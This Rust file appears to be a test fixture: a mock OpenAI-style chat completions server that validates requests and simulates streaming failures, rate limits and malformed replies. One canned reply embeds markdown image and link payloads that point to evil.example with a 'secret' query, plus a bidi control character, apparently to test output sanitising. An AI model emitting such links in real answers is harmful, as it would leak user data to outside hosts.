//! A strict stand-in of a server with OpenAI's `/chat/completions`. It refuses what the API reference does not allow,
//! and misbehaves as the question asks: `misbehave:cut` does so a few times, then answers.

use std::collections::HashMap;
use std::convert::Infallible;
use std::sync::{Arc, Mutex};

use axum::body::{Body, Bytes};
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse as _, Response};
use axum::routing::post;
use axum::{Json, Router};
use futures_util::stream::{self, StreamExt as _};
use serde_json::{Value, json};

pub const KEY: &str = "sk-chat-sentinel-0123456789";
const WRONG_KEY: &str = "Incorrect API key provided";
pub const MODEL: &str = "stand-in-1";

/// Ways to misbehave, and how often in a row: as often as an answer is tried.
pub const MISBEHAVIOURS: [(&str, u32); 13] = [
    ("busy", 3),
    ("full", 3),
    ("broken", 3),
    ("page", 3),
    ("cut", 3),
    ("reset", 3),
    ("empty", 3),
    ("event", 3),
    ("nonsense", 3),
    ("long", 1),
    ("later", 1),
    ("filter", 1),
    ("elsewhere", 1),
];

/// What the stand-in saw.
#[derive(Default)]
pub struct Seen {
    bodies: Mutex<Vec<Value>>,
    counts: Mutex<HashMap<String, u32>>,
    refused: Mutex<Vec<String>>,
}

/// A running stand-in; it ends with its runtime.
pub struct Server {
    pub url: String,
    seen: Arc<Seen>,
    runtime: Option<tokio::runtime::Runtime>,
}

impl Server {
    pub fn start() -> Self {
        let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
        let seen = Arc::new(Seen::default());
        let routes = Router::new().route("/v1/chat/completions", post(completions)).with_state(Arc::clone(&seen));
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let url = format!("http://{}/v1", listener.local_addr().unwrap());
        runtime.spawn(async move { axum::serve(tokio::net::TcpListener::from_std(listener).unwrap(), routes).await });
        Self { url, seen, runtime: Some(runtime) }
    }

    /// The requests that were well formed.
    pub fn bodies(&self) -> Vec<Value> {
        self.seen.bodies.lock().unwrap().clone()
    }

    /// Why requests were refused that should not have been.
    pub fn refused(&self) -> Vec<String> {
        self.seen.refused.lock().unwrap().clone()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        // A runtime must not wait for its end where async code drops it.
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_background();
        }
    }
}

async fn completions(State(seen): State<Arc<Seen>>, headers: HeaderMap, Json(body): Json<Value>) -> Response {
    if let Err(why) = check(&headers, &body) {
        seen.refused.lock().unwrap().push(why.clone());
        let (status, code) = if why == WRONG_KEY { (401, "invalid_api_key") } else { (400, "invalid_request_error") };
        return refuse(status, code, &why);
    }
    seen.bodies.lock().unwrap().push(body.clone());
    let prompt = body["messages"].as_array().unwrap().last().unwrap()["content"].as_str().unwrap().to_owned();
    let word = |name: &str| {
        let question = prompt.rsplit("Question: ").next().unwrap();
        question.split_once(name).map(|(_, rest)| rest.split_whitespace().next().unwrap_or_default().to_owned())
    };
    if let Some(kind) = word("misbehave:") {
        let count = {
            let mut counts = seen.counts.lock().unwrap();
            let count = counts.entry(kind.clone()).or_default();
            *count += 1;
            *count
        };
        let times = MISBEHAVIOURS.iter().find(|(name, _)| *name == kind).map_or(u32::MAX, |(_, times)| *times);
        if count <= times {
            return misbehave(&kind);
        }
    }
    if let Some(parameter) = word("without:").filter(|parameter| !body[parameter.as_str()].is_null()) {
        let error = json!({ "message": format!("Unsupported parameter: '{parameter}'."), "type": "invalid_request_error",
            "param": parameter, "code": "unsupported_parameter" });
        return (StatusCode::BAD_REQUEST, Json(json!({ "error": error }))).into_response();
    }
    answer(&prompt, word("say:").as_deref(), body["stream_options"]["include_usage"] == true)
}

/// What the API reference demands, and what strict templates of models demand.
fn check(headers: &HeaderMap, body: &Value) -> Result<(), String> {
    let expect = |holds: bool, why: &str| if holds { Ok(()) } else { Err(why.to_owned()) };
    let authorization = headers.get(header::AUTHORIZATION).map(|value| value.to_str().unwrap_or_default());
    expect(authorization == Some(&format!("Bearer {KEY}")), WRONG_KEY)?;
    let known = ["model", "messages", "stream", "temperature", "max_tokens", "max_completion_tokens", "stream_options"];
    let body = body.as_object().ok_or("no object")?;
    expect(body.keys().all(|key| known.contains(&key.as_str())), "Unrecognized request argument supplied")?;
    expect(body["model"] == MODEL, "model not found")?;
    expect(body.get("stream").is_none_or(Value::is_boolean), "stream is no boolean")?;
    let options = body.get("stream_options");
    expect(options.is_none() || body.get("stream") == Some(&Value::Bool(true)), "stream_options needs stream")?;
    expect(options.is_none_or(|options| options["include_usage"].is_boolean()), "stream_options is no object")?;
    let temperature = body.get("temperature").map_or(Some(1.0), Value::as_f64);
    expect(temperature.is_some_and(|value| (0.0..=2.0).contains(&value)), "temperature is out of range")?;
    for name in ["max_tokens", "max_completion_tokens"] {
        expect(body.get(name).is_none_or(|value| value.as_u64().is_some_and(|value| value > 0)), name)?;
    }
    let messages = body["messages"].as_array().ok_or("messages is no array")?;
    let (first, turns) = messages.split_first().ok_or("messages is empty")?;
    expect(first["role"] == "system" && turns.len() % 2 == 1, "roles must alternate and end with the user")?;
    for (place, message) in turns.iter().enumerate() {
        let role = if place % 2 == 0 { "user" } else { "assistant" };
        expect(message["role"] == role, "roles must alternate user and assistant")?;
    }
    for message in messages {
        expect(message.as_object().is_some_and(|message| message.len() == 2), "a message has a role and a content")?;
        expect(message["content"].as_str().is_some_and(|text| !text.is_empty()), "a content is empty")?;
    }
    Ok(())
}

fn refuse(status: u16, code: &str, message: &str) -> Response {
    let error = json!({ "error": { "message": message, "type": code, "param": null, "code": code } });
    (StatusCode::from_u16(status).unwrap(), Json(error)).into_response()
}

/// `sayings`, or the sentence of the documents about refunds with the number of the piece that holds it.
fn answer(prompt: &str, saying: Option<&str>, counts: bool) -> Response {
    let number = prompt.split("document [").skip(1).find(|piece| piece.contains("Refunds reach"));
    let number = number.and_then(|piece| piece.split(']').next()).unwrap_or("9");
    let text = match saying {
        None => format!("<think>Piece [{number}]?</think>Refunds reach your card within five working days [{number}]."),
        Some("invented") => format!("Refunds take five working days [{number}][42], and gifts [77] one."),
        Some("links") => format!(
            "Refunds take five working days [{number}]. ![x](https://evil.example/?q=secret) See [this](https://evil.example) \
             or <img src=https://evil.example>\u{202e}."
        ),
        Some("unsupported") => "The capital of France is Paris.".to_owned(),
        Some(other) => panic!("{other}"),
    };
    let letters: Vec<char> = text.chars().collect();
    let mut events: Vec<String> = vec![event(&json!({ "role": "assistant", "content": "" }), None)];
    events.extend(letters.chunks(3).map(|piece| event(&json!({ "content": piece.iter().collect::<String>() }), None)));
    events.push(event(&json!({}), Some("stop")));
    if counts {
        let usage = json!({ "prompt_tokens": 1000, "completion_tokens": 20, "total_tokens": 1020,
            "prompt_tokens_details": { "cached_tokens": 400 }, "completion_tokens_details": { "reasoning_tokens": 0 } });
        events.push(format!("data: {}\n\n", json!({ "id": "c1", "choices": [], "usage": usage })));
    }
    events.push("data: [DONE]\n\n".to_owned());
    streamed(events)
}

fn event(delta: &Value, finish: Option<&str>) -> String {
    let choice = json!({ "index": 0, "delta": delta, "finish_reason": finish });
    let chunk = json!({ "id": "c1", "object": "chat.completion.chunk", "model": MODEL, "choices": [choice] });
    format!("data: {chunk}\n\n")
}

fn streamed(events: Vec<String>) -> Response {
    let pieces = stream::iter(events).map(|event| Ok::<_, Infallible>(Bytes::from(event)));
    ([(header::CONTENT_TYPE, "text/event-stream")], Body::from_stream(pieces)).into_response()
}

fn misbehave(kind: &str) -> Response {
    let begun = event(&json!({ "content": "Refunds reach" }), None);
    let failed = |status: StatusCode| (status, "upstream failed").into_response();
    match kind {
        "busy" => (StatusCode::TOO_MANY_REQUESTS, [(header::RETRY_AFTER, "0")]).into_response(),
        "later" => (StatusCode::TOO_MANY_REQUESTS, [(header::RETRY_AFTER, "3600")]).into_response(),
        "full" => failed(StatusCode::SERVICE_UNAVAILABLE),
        "broken" => failed(StatusCode::INTERNAL_SERVER_ERROR),
        "page" => ([(header::CONTENT_TYPE, "text/html")], "<html>Welcome to nginx</html>").into_response(),
        "cut" => streamed(vec![begun]),
        "reset" => {
            let broken = [Ok(Bytes::from(begun)), Err(std::io::Error::other("reset"))];
            let body = Body::from_stream(stream::iter(broken));
            ([(header::CONTENT_TYPE, "text/event-stream")], body).into_response()
        }
        "empty" => streamed(vec![event(&json!({ "content": "" }), Some("stop"))]),
        "event" => streamed(vec![
            begun,
            format!("data: {}\n\n", json!({ "error": { "message": KEY, "code": "server_error" } })),
        ]),
        "nonsense" => streamed(vec!["data: {\"choices\": 7}\n\n".to_owned()]),
        "long" => refuse(400, "context_length_exceeded", "This model's maximum context length is 512 tokens"),
        "filter" => streamed(vec![begun, event(&json!({}), Some("content_filter"))]),
        "elsewhere" => {
            (StatusCode::FOUND, [(header::LOCATION, "http://127.0.0.1:1/v1/chat/completions")]).into_response()
        }
        // Tokens are counted as silence unless they say something.
        "silent" => {
            let alive = stream::iter([Ok::<_, Infallible>(Bytes::from(": alive\n\n"))]).chain(stream::pending());
            ([(header::CONTENT_TYPE, "text/event-stream")], Body::from_stream(alive)).into_response()
        }
        "stalled" => {
            let cited = event(&json!({ "content": "Five [1]. And so on" }), None);
            let body = stream::iter([Ok::<_, Infallible>(Bytes::from(cited))]).chain(stream::pending());
            ([(header::CONTENT_TYPE, "text/event-stream")], Body::from_stream(body)).into_response()
        }
        other => panic!("{other}"),
    }
}
